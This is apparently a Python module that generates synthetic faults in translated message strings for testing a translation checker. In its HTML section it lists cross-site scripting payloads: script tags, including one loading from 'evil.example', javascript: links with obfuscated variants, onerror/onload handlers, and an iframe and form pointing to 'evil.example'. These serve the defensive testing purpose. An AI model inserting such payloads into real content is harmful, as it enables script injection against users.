def _quotes(locale: str) -> tuple[str, str]:
    if locale in {"zh_TW", "zh_Hant", "ja"}:
        return "「", "」"
    marks = {
        "de": "„“",
        "cs": "„“",
        "pl": "„”",
        "ro": "„”",
        "da": "»«",
        "ru": "«»",
        "uk": "«»",
        "fa": "«»",
        "ar": "«»",
        "el": "«»",
    }
    language = locale.partition("_")[0]
    if language == "fr":
        return "«\u00a0", "\u00a0»"
    both = marks.get(language, "“”")
    return both[0], both[1]


def _locale_quotes(match: re.Match[str], scene: Scene) -> str:
    opening, closing = _quotes(scene.locale)
    return opening + match[0][1:-1] + closing


def _english_date(date: dt.date) -> str:
    return format_date(date, "long", locale="en_US")


def _some_date(scene: Scene) -> dt.date:
    return dt.date(scene.random.randint(1995, 2025), scene.random.randint(1, 12), scene.random.randint(1, 28))


def _local_date(date: dt.date, scene: Scene, *, native: bool) -> str:
    text = format_date(date, scene.random.choice(("long", "medium")), locale=scene.locale)
    return text.translate(_DIGITS.get(scene.language, {})) if native else text


def _date_locale(scene: Scene) -> tuple[str, str, str]:
    date = _some_date(scene)
    local = f"({_local_date(date, scene, native=False)})"
    return f"({_english_date(date)})", local, local


def _date_native(scene: Scene) -> tuple[str, str, str] | None:
    date = _some_date(scene)
    if scene.language not in {"ar", "fa", "bn", "hi"}:
        return None
    local = f"({_local_date(date, scene, native=True)})"
    return f"({_english_date(date)})", local, local


def _date_from_iso(scene: Scene) -> tuple[str, str, str]:
    date = _some_date(scene)
    return f"({date})", f"({date})", f"({_local_date(date, scene, native=False)})"


def _decimal_locale(scene: Scene) -> tuple[str, str, str] | None:
    value = scene.random.randint(1, 99) + scene.random.randint(1, 9) / 10
    local = format_decimal(value, locale=scene.locale, numbering_system="default")
    return (f"({value})", f"({value})", f"({local})") if local != str(value) else None


def _thousands_locale(scene: Scene) -> tuple[str, str, str] | None:
    value = scene.random.randint(11, 99) * 1000
    english = f"{value:,}"
    local = format_decimal(value, locale=scene.locale, numbering_system="default")
    local = scene.random.choice((local, local.replace("\u202f", "\u00a0"), str(value)))
    return f"({english})", f"({english})", f"({local})"


def _percent_local(scene: Scene) -> tuple[str, str, str] | None:
    value = scene.random.randint(2, 98)
    if scene.language in _SPACED_PERCENT:
        gap = scene.random.choice(("\u00a0", "\u202f", " "))
        bad = f"({value}{gap}%)"
    elif scene.language in _DIGITS:
        bad = f"({value}%)".translate(_DIGITS[scene.language])
    elif scene.language == "tr":
        bad = f"(%{value})"
    else:
        return None
    return f"({value}%)", f"({value}%)", bad


def _percent_decimal_local(scene: Scene) -> tuple[str, str, str] | None:
    value = scene.random.randint(1, 99) + scene.random.randint(1, 9) / 10
    symbol = str(Locale.parse(scene.locale).number_symbols["latn"]["decimal"])
    gap = "\u00a0" if scene.language in _SPACED_PERCENT else ""
    local = f"({value}".replace(".", symbol) + f"{gap}%)"
    if scene.language in {"ar", "fa"}:
        local = f"({value}%)".translate(_DIGITS[scene.language]).replace(".", "٫")
    return (f"({value}%)", f"({value}%)", local) if local != f"({value}%)" else None


def _unit_gap(scene: Scene) -> tuple[str, str, str]:
    value, unit = scene.random.randint(2, 90), scene.random.choice(("km", "MB", "ms", "kg", "GHz"))
    gap = scene.random.choice(("\u00a0", "\u202f", "" if scene.unspaced else "\u00a0"))
    return f"({value} {unit})", f"({value} {unit})", f"({value}{gap}{unit})"


def _unit_local(scene: Scene) -> tuple[str, str, str] | None:
    if scene.language not in _UNITS:
        return None
    value, place = scene.random.randint(2, 90), scene.random.randrange(2)
    unit, gap = ("km", "kg")[place], "" if scene.unspaced else scene.random.choice((" ", "\u00a0"))
    return f"({value} {unit})", f"({value} {unit})", f"({value}{gap}{_UNITS[scene.language][place]})"


def _locator_local(scene: Scene) -> tuple[str, str, str] | None:
    if scene.language not in _LOCATORS:
        return None
    key, number = _key(scene), _number(scene)
    whole = f"[@{key}, p. {number}]"
    return whole, whole, f"[@{key}, {_LOCATORS[scene.language].format(number)}]"


def _footnote_side(entry: Entry, scene: Scene) -> Case | None:
    """A footnote in front of the stop instead of behind it."""
    stop, source = _END.search(entry.msgstr), _END.search(entry.msgid)
    if not stop or not source or "[^" in entry.msgid or len(stop[0]) != 1:
        return None
    mark, head = f"[^{_number(scene)}]", entry.msgstr[: stop.start()]
    return Case(entry.msgid + mark, entry.msgstr + mark, head + mark + stop[0], "before the stop", synthetic=True)


def _number_word(entry: Entry, scene: Scene) -> Case | None:
    words = _NUMBER_WORDS.get(scene.language, "").split()
    source, text = _masked(entry.msgid), entry.msgstr
    counted = {
        match[1]
        for match in re.finditer(r"(?<![\w.,#/:-])([2-9]|10) [a-z]{3}", source)
        if not re.search(r"(?:[A-Z]\w*|version|level|pin|port|step|chapter|index) $", source[: match.start()])
    }
    found = [match for match in _matches(_INTEGER, text, plain=True) if match[0] in counted]
    found = [match for match in found if text.count(match[0]) == entry.msgid.count(match[0]) == 1]
    if not words or not found:
        return None
    match = scene.random.choice(found)
    word = words[int(match[0]) - 2]
    tail = text[match.end() :].lstrip() if scene.unspaced else text[match.end() :]
    return _case(entry, text[: match.start()] + word + tail, f"{match[0]}->{word}")


def _native_number(match: re.Match[str], scene: Scene) -> str | None:
    digits = _DIGITS.get(scene.language)
    return match[0].translate(digits) if digits else None


def _decimal_comma(entry: Entry, scene: Scene) -> Case | None:
    if Locale.parse(scene.locale).number_symbols["latn"]["decimal"] != ",":
        return None
    labelled = re.search(
        r"(?:[A-Z]\w*|version|chapter|section|release|v)\.? \d+\.\d|\.\d+ (?:release|version)", entry.msgid
    )
    if labelled:
        return None
    return _replacing(_DECIMAL, lambda match, _: match[0].replace(".", ","), plain=True)(entry, scene)


def _gloss(entry: Entry, scene: Scene) -> Case | None:
    """The English term in brackets behind a word."""
    terms = [term for term in re.findall(r"\b[a-z]{5,}\b", _masked(entry.msgid)) if term not in entry.msgstr]
    place = _between_words(entry.msgstr, scene)
    if not terms or place is None:
        return None
    term = scene.random.choice(terms)
    gloss = f"（{term}）" if scene.unspaced else f" ({term})"
    return _case(entry, _put(entry.msgstr, place, gloss), term)


def _italics(entry: Entry, scene: Scene) -> Case | None:
    mark = "*" if scene.unspaced else "_"
    found = [
        match
        for match in _matches(_LATIN_WORD, entry.msgstr, plain=True)
        if re.fullmatch(r"[ (]?", entry.msgstr[max(match.start() - 1, 0) : match.start()])
        and re.fullmatch(r"[ ),.;:]?", entry.msgstr[match.end() : match.end() + 1])
        and match[0] in entry.msgid
    ]
    if not found:
        return None
    match = scene.random.choice(found)
    text = entry.msgstr
    return _case(entry, f"{text[: match.start()]}{mark}{match[0]}{mark}{text[match.end() :]}", match[0])


def _alt_text(match: re.Match[str], scene: Scene) -> str | None:
    runs = [re.match(r"\w[\w ]{2,29}", other.msgstr) for other in scene.entries]
    texts = [run[0].strip() for run in runs if run]
    return f"![{scene.random.choice(texts)}]{match[0][match[0].index('](') + 1 :]}" if texts else None


def _wikipedia(match: re.Match[str], scene: Scene) -> str | None:
    if "//en.wikipedia.org/wiki/" not in match["url"]:
        return None
    article = re.sub(r"\W+", "_", match["text"]).strip("_") or "X"
    return f"[{match['text']}](https://{scene.language}.wikipedia.org/wiki/{article})"


def _url_language(match: re.Match[str], scene: Scene) -> str | None:
    if not re.search(r"/en(?:-US)?/", match["url"]):
        return None
    local = re.sub(r"/en(?:-US)?/", f"/{scene.locale.replace('_', '-')}/", match["url"], count=1)
    return match[0].replace(f"]({match['url']}", f"]({local}")


def _sentences_joined(entry: Entry, scene: Scene) -> Case | None:
    spans = _sentences(entry.msgstr)
    if len(spans) < 2:  # noqa: PLR2004
        return None
    place = scene.random.randrange(len(spans) - 1)
    end, start = spans[place][1], spans[place + 1][0]
    if entry.msgstr[end - 1] not in ".。" or not entry.msgstr[start].isalpha():
        return None
    joint = "，" if scene.language == "zh" else "、" if scene.language == "ja" else "; "
    text = entry.msgstr
    return _case(entry, text[: end - 1] + joint + text[start].lower() + text[start + 1 :], "two sentences joined")


_FULL_WIDTH = str.maketrans(",!?:;()", "，！？：；（）")
_HALF_WIDTH = str.maketrans("，！？：；（）", ",!?:;()")
_ARABIC_PUNCTUATION = str.maketrans(",;?", "،؛؟")


def _every_mark(pattern: str, table: Mapping[int, int | str]) -> Make:
    return _every(re.compile(pattern), lambda match: match[0].translate(dict(table)))


def _wrapped_code(before: str, after: str) -> Make:
    return _only(_RIGHT_TO_LEFT, _replacing(_CODE, lambda match, _: before + match[0] + after))


def _cjk_gaps(entry: Entry, scene: Scene) -> Case | None:
    """The blanks between ideographs and Latin letters or code, taken away or put in."""
    if not scene.unspaced:
        return None
    gap = re.compile(rf"(?<=[{_CJK}]) (?=[A-Za-z0-9`])|(?<=[A-Za-z0-9`]) (?=[{_CJK}])")
    without = gap.sub("", entry.msgstr)
    if without != entry.msgstr:
        return _case(entry, without, "gaps closed")
    bare = re.compile(rf"(?<=[{_CJK}])(?=[A-Za-z0-9])|(?<=[A-Za-z0-9])(?=[{_CJK}])")
    return _every(bare, " ")(entry, scene)


def _loose(pattern: re.Pattern[str], mark: str) -> Make:
    """Emphasis in its other spelling, where both spellings work."""

    def make(entry: Entry, scene: Scene) -> Case | None:
        del scene
        for match in _matches(pattern, entry.msgstr, plain=False):
            before = entry.msgstr[max(match.start() - 1, 0) : match.start()]
            after = entry.msgstr[match.end() : match.end() + 1]
            if re.fullmatch(r"[\s(]?", before) and re.fullmatch(r"[\s.,;:)]?", after):
                new = mark + match["inner"] + mark
                return _case(entry, entry.msgstr[: match.start()] + new + entry.msgstr[match.end() :], match[0])
        return None

    return make


# All kinds


def _constant(new: str) -> Change:
    return lambda _match, _scene: new


def _dropped(pattern: re.Pattern[str]) -> Make:
    return _replacing(pattern, _constant(""))


def _citations() -> Iterator[tuple[str, Make]]:
    yield "cite_drop", _planted(_cite_drop)
    yield "cite_dup", _planted(_cite_dup)
    yield "cite_key", _planted(_cite_key)
    yield "cite_locator", _planted(_cite_locator)
    yield "cite_pair_drop", _planted(_cite_pair_drop)
    yield "cite_at_space", _planted(_cite_at_space)
    yield "cite_at_drop", _planted(_cite_at_drop)
    yield "fndef_id", _definition_id
    feet: dict[str, Callable[[int, Scene], str]] = {
        "footnote_space": lambda number, scene: scene.random.choice((f"[ ^{number}]", f"[^ {number}]")),
        "syn_foot_drop": lambda _number, _scene: "",
        "syn_foot_dup": lambda number, _: f"[^{number}][^{number}]",
        "foot_change": lambda number, _: f"[^{number + 1}]",
        "foot_caret_outside": lambda number, _: f"^[{number}]",
        "foot_fullwidth": lambda number, _: f"［^{number}］",
        "foot_caret_drop": lambda number, _: f"[{number}]",
        "foot_escaped": lambda number, _: f"\\[^{number}\\]",
    }
    for name, bad in feet.items():
        yield name, _planted(_foot(bad), "", before_stop=False)
    yield "foot_native_digit", _only(set(_DIGITS), _planted(_foot(lambda n, scene: f"[^{_native(n, scene)}]"), ""))
    yield "syn_foot_swap", _planted(_foot_swap, "", before_stop=False)
    yield "foot_moved", _foot_moved
    yield "numcite_drop", _planted(_numcite(lambda _number, _scene: ""))
    yield "numcite_change", _planted(_numcite(lambda number, _: f"[{number + 1}]"))
    yield "sup_drop", _planted(_superscript(lambda _number, _scene: ""), before_stop=False)
    other = _superscript(lambda number, _: str(number % 9 + 1).translate(_SUPERSCRIPTS))
    yield "sup_change", _planted(other, before_stop=False)
    yield "html_sup_drop", _planted(_html_sup(lambda _number, _scene: ""), "", before_stop=False)
    yield "html_sup_plain", _planted(_html_sup(lambda number, _: str(number)), "", before_stop=False)


def _links() -> Iterator[tuple[str, Make]]:
    simple: dict[str, Change] = {
        "link_drop": _constant(""),
        "link_escaped": lambda match, _: f"\\[{match['text']}\\]{match[0][match[0].rindex('](') + 1 :]}",
        "link_fullwidth": lambda match, _: f"[{match['text']}]（{match['url']}）",
        "link_brackets_fullwidth": lambda match, _: f"［{match['text']}］({match['url']})",
        "link_space": lambda match, _: f"[{match['text']}] ({match['url']})",
        "link_unlink": lambda match, _: match["text"],
        "link_zwnj": lambda match, _: f"[{match['text']}]\u200c({match['url']})",
        "link_turned": lambda match, _: f"({match['text']})[{match['url']}]",
        "link_end_drop": lambda match, _: match[0][:-1],
        "url_other": _constant("[x](https://example.org/other)"),
        "url_typo": _url_typo,
        "url_space": lambda match, _: match[0].replace("://", ": //") if "://" in match[0] else None,
        "anchor_change": _anchor_change,
    }
    simple["url_other"] = lambda match, _: match[0].replace(f"]({match['url']}", "](https://example.org/other")
    for name, change in simple.items():
        yield name, _replacing(_LINK, change)
        yield name, _based(_BASES_OF_LINKS, _replacing(_LINK, change))
    yield "url_swap", _swap_two(_LINK, "url")
    yield "link_text_swap", _swap_two(_LINK, "text", telling=True)
    yield "bare_url_typo", _replacing(_BARE_URL, lambda match, _: match[0].replace("https:", "http:") + "x")
    yield "reflink_id", _planted(_reference_link)
    for base in (None, _BASES_OF_IMAGES):
        for name, new in (("image_drop", ""), ("image_src", None)):
            make = _replacing(
                _IMAGE, _constant(new) if new is not None else lambda match, _: f"![{match['text']}](other.png)"
            )
            yield name, make if base is None else _based(base, make)


def _markup() -> Iterator[tuple[str, Make]]:
    simple: dict[str, Change] = {
        "code_drop": _constant(""),
        "code_quotes": lambda match, scene: match["code"].join(_quotes(scene.locale)),
        "code_strip": lambda match, _: match["code"],
        "code_translate": _code_translated,
        "code_unbalanced": lambda match, scene: scene.random.choice((match[0][1:], match[0][:-1])),
        "code_fullwidth": lambda match, _: f"｀{match['code']}｀",
    }
    for name, change in simple.items():
        yield name, _replacing(_CODE, change)
    yield "attr_drop", _dropped(re.compile(r"\{[^{}\n]*\}+"))
    attributes = ('{: .note lang="en"}', "{.wide #intro}")
    yield "attr_drop", _based(attributes, _dropped(re.compile(r"\{[^{}]+\}")), before_stop=False, inside=False)
    yield "em_drop", _replacing(_EMPHASIS, _unwrapped)
    yield "em_unbalanced", _replacing(_EMPHASIS, lambda match, _: match[0][:-1])
    strong: dict[str, Change] = {
        "strong_drop": _unwrapped,
        "strong_half": lambda match, _: match[0][:-1],
        "strong_inner_space": lambda match, _: f"** {match['inner']} **",
        "strong_unbalanced": lambda match, _: match[0][:-2],
        "strong_fullwidth": lambda match, _: f"＊＊{match['inner']}＊＊",
    }
    for name, change in strong.items():
        yield name, _replacing(_STRONG, change, shared=False)
    ids = ("{#sec-intro}", "{#sec-intro}", "{#sec-introduction}")
    yield "heading_id", _planted(lambda _: ids, before_stop=False, inside=False)
    yield "heading_level", _prefixed("## ", "### ")
    yield "list_marker", _prefixed("- ", "")
    yield "math_break", _planted(_math)


def _html() -> Iterator[tuple[str, Make]]:
    inserted = {
        "comment_insert": ("<!-- x",),
        "data_link_insert": ("[x](data:text/html;base64,PHNjcmlwdD4=)",),
        "html_js_href_insert": ('<a href="javascript:alert(1)">x</a>', "<a href='JavaScript:alert(1)'>x</a>"),
        "iframe_insert": ('<iframe src="https://evil.example"></iframe>',),
        "js_autolink_insert": ("<javascript:alert(1)>",),
        "js_link_insert": ("[x](javascript:alert(1))",),
        "js_link_mixed_case": ("[x](JaVaScript:alert(1))", "[x](jAVASCRIPT:void(0))"),
        "js_entity_link_insert": ("[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))"),
        "onerror_insert": ("<img src=x onerror=alert(1)>", '<b onmouseover="alert(1)">x</b>'),
        "script_insert": ("<script>alert(1)</script>", "<ScRiPt src=//evil.example></ScRiPt>"),
        "svg_insert": ("<svg onload=alert(1)></svg>", "<svg/onload=alert(1)>"),
        "form_insert": ('<form action="https://evil.example"><input name=x></form>', "<object data=x></object>"),
    }
    for name, pieces in inserted.items():
        yield name, _inserting(*pieces)
    yield "js_link_replace", _replacing(_LINK, lambda match, _: f"[{match['text']}](javascript:alert(1))")
    elements: dict[str, Change] = {
        "html_close_drop": lambda match, _: match[0][: match[0].rindex("</")],
        "html_tag_rename": lambda match, _: f"<x{match['tag']}{match[0][1 + len(match['tag']) :]}",
        "html_pair_drop": lambda match, _: match["inner"],
    }
    for base in (None, ("<kbd>Ctrl</kbd>", '<a href="https://example.org/x">X</a>', "<em>X</em>")):
        for name, change in elements.items():
            make = _replacing(_ELEMENT, change)
            yield name, make if base is None else _based(base, make)
    for name, variants in (("entity_break", ("& {};", "&{} ;")), ("entity_fullwidth", ("＆{};", "&{}；"))):
        yield name, _planted(_entity(variants))


def _entity(variants: tuple[str, ...]) -> Callable[[Scene], tuple[str, str, str]]:
    def pieces(scene: Scene) -> tuple[str, str, str]:
        entity = scene.random.choice(("copy", "nbsp", "mdash", "hearts"))
        return f"&{entity};", f"&{entity};", scene.random.choice(variants).format(entity)

    return pieces


def _numbers() -> Iterator[tuple[str, Make]]:
    yield "digit_change", _replacing(_INTEGER, _other_digit, plain=True)
    yield "number_drop", _number_dropped
    shifted = _replacing(_DECIMAL, lambda match, _: match[0].replace(".", ""), plain=True)
    yield "decimal_shift", shifted
    yield "decimal_shift", _based(("(3.5)", "(0.25)", "(12.75)"), shifted)
    yield "percent_change", _replacing(_PERCENT, _other_digit, plain=True)
    yield "percent_change", _based(("(35%)", "(80%)"), _replacing(_PERCENT, _other_digit, plain=True))
    sign = _replacing(_PERCENT, lambda match, _: match[0].removesuffix(match["sign"]), plain=True)
    yield "percent_sign_drop", sign
    yield "percent_sign_drop", _based(("(35%)", "(80%)"), sign)
    yield "percent_syn", _planted(_percent)
    yield "unit_syn", _planted(_unit)
    yield "date_swap", _planted(_date_swap)
    yield "sign_drop", _planted(_sign)
    yield "thousands_syn", _planted(_thousands)
    yield "range_syn", _planted(_range)
    yield "native_digit_change", _planted(_native_digit)


def _words() -> Iterator[tuple[str, str, Make]]:
    yield "terminology", "name_dropped", _name(lambda _name, _scene: "")
    yield "terminology", "name_misspelt", _name(_misspelt)
    yield "completeness", "blank", lambda entry, _: _case(entry, " ", "blank")
    yield "completeness", "half_untranslated", _half_untranslated
    yield "completeness", "sentence_drop", _sentence_dropped
    yield "completeness", "truncate", _truncated
    yield "completeness", "untranslated", _untranslated
    yield "completeness", "wrong_entry", _wrong_entry
    yield "completeness", "other_script", _other_script
    yield "completeness", "doubled", _doubled
    yield "completeness", "machine_note", _chat
    yield "punctuation", "end_punct_drop", _stop_dropped
    yield "punctuation", "end_punct_change", _stop_changed
    yield "punctuation", "end_punct_double", _stop_doubled
    yield "punctuation", "paren_unbalanced", _odd_one(_PARENTHESES)
    yield "punctuation", "quote_unbalanced", _odd_one(_QUOTES)
    yield "whitespace", "hardbreak_loss", _replacing(re.compile(r" {2,}\n|\\\n"), _constant("\n"))
    yield "whitespace", "newline_loss", _replacing(re.compile(r" *\n"), _constant(" "))
    yield "whitespace", "newline_insert", _character_after_word("\n\n")
    yield "whitespace", "indent_insert", lambda entry, _: _case(entry, "    " + entry.msgstr, "four blanks before")
    yield "other", "emoji_drop", _dropped(_EMOJI)
    yield "other", "emoji_syn", _based(("⚠️", "🎉", "✅", "💡"), _dropped(_EMOJI), before_stop=False)
    yield "other", "emoji_change", _replacing(_EMOJI, _constant("🍕"))
    yield "other", "emoji_change", _based(("⚠️", "🎉", "✅"), _replacing(_EMOJI, _constant("🍕")), before_stop=False)


def _unicode() -> Iterator[tuple[str, Make]]:
    for name, character in (
        ("bidi_isolate_open", "\u2067"),
        ("bidi_rlo", "\u202e"),
        ("bom_mid", "\ufeff"),
        ("control_char", "\x08"),
        ("private_use_char", "\ue000"),
    ):
        yield name, _character_after_word(character)
    yield "homoglyph_code", _replacing(_CODE, _lookalike("code", _LOOKALIKES))
    yield "homoglyph_url", _replacing(_LINK, _lookalike("url", _LOOKALIKES))
    yield "homoglyph_word", _homoglyph_word
    yield "mojibake", _mojibake
    yield "mojibake_legacy", _mojibake_legacy
    yield "replacement_char", _letter_lost
    yield "softhyphen_word", _character_in(_WORD, 0, "\u00ad", plain=True)
    yield "zwsp_word", _character_in(_WORD, 0, "\u200b", plain=True)
    yield "zwsp_url", _character_in(_LINK, "url", "\u200b")
    yield "lrm_url", _character_in(_LINK, "url", "\u200e")
    yield "zwsp_code", _character_in(_CODE, "code", "\u200b")
    yield (
        "nbsp_code",
        _replacing(_CODE, lambda match, _: match[0].replace(" ", "\u00a0") if " " in match["code"] else None),
    )


def _harmless() -> Iterator[tuple[str, Make]]:
    yield "b_alt_text", _replacing(_IMAGE, _alt_text)
    yield "b_alt_text", _based(_BASES_OF_IMAGES, _replacing(_IMAGE, _alt_text))
    yield "b_autolink_to_link", _replacing(_AUTOLINK, lambda match, _: f"[{match['url']}]({match['url']})")
    yield "b_code_reorder", _swap_two(_CODE, 0, near=True)
    yield "b_link_reorder", _swap_two(_LINK, 0, near=True)
    yield "b_ellipsis_char", _replacing(re.compile(r"(?<!\.)\.\.\.(?!\.)"), _constant("…"), plain=True)
    yield "b_extra_italics", _italics
    yield "b_gloss_parens", _gloss
    yield "b_locale_quotes", _replacing(re.compile(r'"[^"\n\0]+"'), _locale_quotes, plain=True, shared=False)
    yield "b_strong_underscores", _loose(_STRONG, "__")
    yield "b_em_stars", _loose(re.compile(r"(?<![\w_])_(?P<inner>[^\s_](?:[^_`*]*[^\s_])?)_(?![\w_])"), "*")
    yield "b_wikipedia_localised", _replacing(_LINK, _wikipedia)
    yield "b_url_language", _replacing(_LINK, _url_language)
    yield "b_date_locale", _planted(_date_locale)
    yield "b_date_native", _planted(_date_native)
    yield "b_date_from_iso", _planted(_date_from_iso)
    yield "b_decimal_comma", _decimal_comma
    yield "b_decimal_locale", _planted(_decimal_locale)
    yield "b_thousands_locale", _planted(_thousands_locale)
    yield "b_percent_local", _planted(_percent_local)
    yield "b_percent_decimal", _planted(_percent_decimal_local)
    yield "b_unit_gap", _planted(_unit_gap)
    yield "b_unit_local", _planted(_unit_local)
    yield "b_native_digits", _replacing(_INTEGER, _native_number, plain=True)
    yield "b_number_word", _number_word
    yield "b_locator_local", _planted(_locator_local)
    yield "b_footnote_side", _footnote_side
    yield "b_sentences_joined", _sentences_joined
    yield "b_fullwidth_punct", _only(_UNSPACED, _every_mark(rf"(?<=[{_CJK}])[,!?:;] ?|\([^()\0]*\)", _FULL_WIDTH))
    yield "b_halfwidth_punct", _only(_UNSPACED, _every_mark("[！？：；（）]", _HALF_WIDTH))
    yield (
        "b_arabic_punct",
        _only({"ar", "fa", "ur"}, _every_mark(r"(?<=[\u0600-\u06ff])[,;?](?=\s|$)", _ARABIC_PUNCTUATION)),
    )
    yield "b_latin_punct", _only({"ar", "fa", "ur"}, _every_mark("[،؛؟]", str.maketrans("،؛؟", ",;?")))
    yield (
        "b_zwnj_added",
        _only({"fa"}, _every(re.compile(r"(?<=\bمی) (?=\w)|(?<=\w) (?=(?:ها|های|تر|ترین)\b)"), "\u200c")),
    )
    yield "b_zwnj_removed", _only({"fa"}, _every(re.compile("\u200c"), " "))
    yield "b_lrm_code", _wrapped_code("\u200e", "\u200e")
    yield "b_rlm_code", _wrapped_code("\u200f", "\u200f")
    yield "b_isolated_code", _wrapped_code("\u2068", "\u2069")
    yield "b_ltr_span", _wrapped_code('<span dir="ltr">', "</span>")
    yield "b_cjk_gaps", _cjk_gaps
    yield "b_nbsp_punct", _only({"fr"}, _every(re.compile(r" (?=[:;!?»])|(?<=«) "), "\u00a0"))


def all_kinds() -> tuple[Kind, ...]:
    """Every kind, in the order in which they are planted."""
    found: dict[tuple[str, str], Kind] = {}
    groups = {
        "citation": _citations,
        "link": _links,
        "markup": _markup,
        "html": _html,
        "number": _numbers,
        "unicode": _unicode,
        "benign": _harmless,
    }
    listed = [(group, name, make) for group, makes in groups.items() for name, make in makes()]
    for group, name, make in (*listed, *_words()):
        kind = found.get((group, name), Kind(group, name, ()))
        found[group, name] = replace(kind, makes=(*kind.makes, make))
    return tuple(found.values())
